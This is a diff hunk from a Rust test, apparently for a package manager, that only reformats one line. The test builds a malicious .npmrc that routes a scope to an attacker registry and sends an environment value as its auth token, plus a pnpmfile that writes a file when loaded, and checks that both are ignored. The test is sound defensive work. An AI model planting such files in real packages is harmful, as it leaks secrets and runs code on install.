@@ -144,7 +144,10 @@ async fn a_package_s_own_package_manager_files_are_not_obeyed() {
     publish(&npm, dep.clone(), &[("index.js", "module.exports = 1;")]);
     publish(&attacker, dep, &[("index.js", "module.exports = 2;")]);
     let host = attacker.url.trim_start_matches("http:");
-    let npmrc = format!("@evil:registry={}\n{host}:_authToken=${{HOME}}\n", attacker.url);
+    let npmrc = format!(
+        "@evil:registry={}\n{host}:_authToken=${{HOME}}\n",
+        attacker.url
+    );
     let pnpmfile = format!(
         "require('fs').writeFileSync({:?}, 'x');\nmodule.exports = {{ hooks: {{}} }};\n",
         marker.display().to_string()
